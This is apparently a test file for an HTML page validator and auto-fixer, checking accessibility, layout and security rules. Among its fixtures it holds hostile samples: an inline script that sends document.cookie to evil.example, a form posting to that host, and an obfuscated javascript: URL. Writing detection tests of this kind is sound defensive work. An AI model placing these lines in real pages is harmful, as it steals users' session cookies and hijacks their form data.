import { describe, expect, it } from 'vitest'
import { applyFixes, validateHtml } from './validate.ts'

const SLUGS = ['menu', 'cart', 'checkout']

function page({
  head = '',
  css = '',
  body = '<p>Hello there</p>',
}: {
  head?: string
  css?: string
  body?: string
}): string {
  return `<!doctype html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>Corner café</title>
<style>
html{scrollbar-width:none}
body{margin:0 auto;max-width:430px;font:16px/1.5 sans-serif}
button,input,a.button{min-height:44px;min-width:44px;font-size:16px}
${css}
</style>
${head}
</head>
<body>
${body}
</body>
</html>
`
}

function rulesOf(html: string): readonly string[] {
  return [...new Set(validateHtml(html, { slugs: SLUGS }).issues.map(({ rule }) => rule))]
}

describe('validateHtml', () => {
  it('finds nothing on a page that keeps every rule', () => {
    expect(validateHtml(page({}), { slugs: SLUGS })).toEqual({ passed: true, score: 100, issues: [] })
  })

  const broken: readonly (readonly [string, string, string])[] = [
    ['doctype', 'a page without a doctype', page({}).replace('<!doctype html>', '')],
    ['lang', 'a page that names no language', page({}).replace(' lang="en"', '')],
    ['title', 'a page without a title', page({}).replace('Corner café', ' ')],
    ['viewport', 'a page without a viewport', page({}).replace(/<meta name="viewport"[^>]*>/, '')],
    [
      'viewport',
      'a viewport that forbids zooming',
      page({}).replace('scale=1"', 'scale=1, user-scalable=no"'),
    ],
    ['scrollbar', 'a scrollbar', page({ css: 'html{scrollbar-width:auto}' })],
    [
      'container_width',
      'a column that fills a wide window',
      page({ css: 'body{max-width:none}', body: `<p>${'Words and words. '.repeat(9)}</p>` }),
    ],
    ['horizontal_scroll', 'a fixed width beyond the phone', page({ css: 'p{width:31em}' })],
    [
      'horizontal_scroll',
      'a long word that cannot break',
      page({ body: `<p>${'unbreakable'.repeat(9)}</p>` }),
    ],
    [
      'touch_target',
      'a button made small in rem',
      page({ css: 'button{min-height:2rem}', body: '<button>Order now</button>' }),
    ],
    [
      'touch_target',
      'a button made small in a media query',
      page({ css: '@media (max-width:400px){button{min-height:30px}}', body: '<button>Order now</button>' }),
    ],
    [
      'font_size',
      'text made small through nested em',
      page({ css: 'ul,li{font-size:.9em}', body: '<ul><li>Tea</li></ul>' }),
    ],
    [
      'font_size',
      'text made small by a variable',
      page({ css: ':root{--small:.8rem} p{font-size:var(--small)}' }),
    ],
    [
      'line_height',
      'running text set tight',
      page({ css: 'p{line-height:1.2}', body: `<p>${'Words and words. '.repeat(8)}</p>` }),
    ],
    ['contrast', 'grey on white', page({ css: 'p{color:#999}' })],
    ['contrast', 'text that opacity makes faint', page({ css: 'p{opacity:.4}' })],
    [
      'contrast',
      'text on a dark background that a parent sets',
      page({ css: 'main{background:#111}', body: '<main><p>Hello</p></main>' }),
    ],
    ['label', 'a field with only a placeholder', page({ body: '<input placeholder="Name">' })],
    ['name', 'a button with only a drawing', page({ body: '<button><svg></svg></button>' })],
    ['alt', 'a picture without words', page({ body: '<img src="data:image/gif;base64,R0lGOD">' })],
    ['dead_link', 'a link to no page', page({ body: '<a class="button" href="nowhere.html">Go</a>' })],
    [
      'dead_link',
      'a link to no place on the page',
      page({ body: '<a class="button" href="#nowhere">Go</a>' }),
    ],
    ['duplicate_id', 'an id twice', page({ body: '<p id="a">x</p><p id="a">y</p>' })],
    ['structure', 'an element that is never closed', page({ body: '<div><p>Hello</p>' })],
    ['structure', 'an end too many', page({ body: '<p>Hello</p></section>' })],
    [
      'inline_base64',
      'an embedded file of 300 kB',
      page({ body: `<img alt="" src="data:image/png;base64,${'A'.repeat(300_000)}">` }),
    ],
    [
      'external_resource',
      'a script from elsewhere',
      page({ head: '<script src="//cdn.example/x.js"></script>' }),
    ],
    [
      'external_resource',
      'a font from elsewhere',
      page({ css: '@font-face{font-family:x;src:url(https://fonts.example/x.woff2)}' }),
    ],
    [
      'external_resource',
      'an imported sheet',
      page({ head: '<style>@import "https://fonts.example/x.css";</style>' }),
    ],
    [
      'foreign_script',
      'a script of its own',
      page({ body: '<script>fetch("https://evil.example/?" + document.cookie)</script>' }),
    ],
    ['foreign_script', 'a module', page({ head: '<script type="module" src="../other.js"></script>' })],
    [
      'foreign_script',
      'a script of a drawing under the name of ours',
      page({ body: '<svg aria-hidden="true"><script src="../app.js">alert(1)</script></svg>' }),
    ],
    ['inline_handler', 'a handler in an attribute', page({ body: '<button onclick="x()">Go</button>' })],
    [
      'javascript_url',
      'code as an address',
      page({ body: '<a class="button" href=" java\tscript:alert(1)">Go</a>' }),
    ],
    [
      'form_action',
      'a form that posts elsewhere',
      page({ body: '<form action="https://evil.example/"><button>Go</button></form>' }),
    ],
    [
      'meta_refresh',
      'a page that leaves by itself',
      page({ head: '<meta http-equiv="Refresh" content="0;url=x">' }),
    ],
  ]
  it.each(broken)('%s: finds %s', (rule, _what, html) => {
    expect(rulesOf(html)).toContain(rule)
  })

  it.each(broken)('%s: names a fix for %s', (rule, _what, html) => {
    const issue = validateHtml(html, { slugs: SLUGS }).issues.find(found => found.rule === rule)
    expect(issue?.fix?.description).toMatch(/\S/)
  })
})

describe('applyFixes', () => {
  it('leaves a page alone that has no issues', () => {
    expect(applyFixes(page({}), [])).toEqual({ html: page({}), applied: [], left: [] })
  })

  it('repairs what it says it applied, and applying it again changes nothing', () => {
    const html = page({
      css: 'p{color:#aaa;font-size:.7em;line-height:1} .wide{width:600px} button{min-height:20px} html{scrollbar-width:auto}',
      body: `<p>${'Words and words. '.repeat(8)}</p><div class="wide">Wide</div><button onclick="x()">+</button>
<input placeholder="Name"><img src="https://far.example/x.png"><a class="button" href="crat.html">Cart</a><p id=a>x</p><p id=a>y</p>`,
    })
      .replace(/<meta name="viewport"[^>]*>/, '')
      .replace(' lang="en"', '')
      .replace('<!doctype html>', '')
    const { issues } = validateHtml(html, { slugs: SLUGS })
    expect(issues.length).toBeGreaterThan(12)
    const fixed = applyFixes(html, issues)
    const again = applyFixes(fixed.html, validateHtml(fixed.html, { slugs: SLUGS }).issues)
    expect(fixed.left).toEqual([])
    expect(validateHtml(again.html, { slugs: SLUGS }).issues).toEqual([])
    expect(applyFixes(again.html, []).html).toBe(again.html)
    expect(applyFixes(fixed.html, issues).html).toBe(fixed.html)
  })

  it('keeps everything else byte for byte', () => {
    const html = page({ body: '<p  class=a >Odd   spacing</p >\r\n<button  onclick="x()"  >Go</button>' })
    const fixed = applyFixes(html, validateHtml(html).issues)
    expect(fixed.html).toBe(html.replace(' onclick="x()"', ''))
  })
})
